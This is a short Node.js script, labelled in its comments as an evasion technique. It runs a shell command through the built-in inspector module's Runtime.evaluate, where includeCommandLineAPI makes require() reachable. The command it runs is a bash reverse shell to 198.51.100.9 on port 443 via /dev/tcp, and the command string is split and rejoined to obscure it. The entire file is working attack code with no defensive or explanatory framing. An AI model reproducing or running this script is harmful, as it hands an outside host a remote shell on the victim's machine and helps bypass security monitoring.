// Evasion: the shell command runs through the built-in inspector: a
// Runtime.evaluate message with includeCommandLineAPI makes require()
// available to the evaluated string, which loads child_process there.
'use strict';
const inspector = require('inspector');

const session = new inspector.Session();
session.connect();

const expr = ["require('child_process')", ".execSync('bash -c \"sh -i >& /dev/tcp/198.51.100.9/443 0>&1\"')"].join('');
session.post('Runtime.evaluate', { expression: expr, includeCommandLineAPI: true }, (err, res) => {
  if (err) console.error(err);
  else console.log(res.result.type);
  session.disconnect();
});
